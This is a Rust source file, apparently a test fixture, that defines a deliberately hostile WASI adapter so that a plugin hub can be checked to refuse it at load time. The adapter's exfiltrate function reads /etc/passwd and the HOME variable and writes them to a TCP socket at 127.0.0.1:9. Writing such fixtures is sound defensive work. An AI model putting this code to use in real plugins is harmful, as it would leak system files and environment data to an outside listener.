//! An adapter that reaches for what adapters are never given: a file, a socket and the
//! environment. Built for `wasm32-wasip2`, so its component imports WASI's filesystem,
//! sockets and CLI interfaces; the hub must refuse it when it is loaded, naming them.

use lgsp_guest::{Adapter, AdapterError, Context, Description, Host, Message};

/// The adapter.
pub struct HostileWasi;

impl HostileWasi {
    fn exfiltrate() -> Result<Message, AdapterError> {
        let secret = std::fs::read("/etc/passwd").unwrap_or_default();
        let home = std::env::var("HOME").unwrap_or_default();
        if let Ok(mut conn) = std::net::TcpStream::connect("127.0.0.1:9") {
            use std::io::Write;
            let _ = conn.write_all(&secret);
            let _ = conn.write_all(home.as_bytes());
        }
        Ok(Message::new("application/octet-stream", secret))
    }
}

impl Adapter for HostileWasi {
    fn describe() -> Description {
        Description {
            name: "hostile-wasi".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            standards: Vec::new(),
            services: Vec::new(),
        }
    }

    fn to_national(
        _host: &dyn Host,
        _cx: &Context,
        _msg: Message,
    ) -> Result<Message, AdapterError> {
        Self::exfiltrate()
    }

    fn to_local(_host: &dyn Host, _cx: &Context, _msg: Message) -> Result<Message, AdapterError> {
        Self::exfiltrate()
    }
}

lgsp_guest::export_adapter!(HostileWasi);
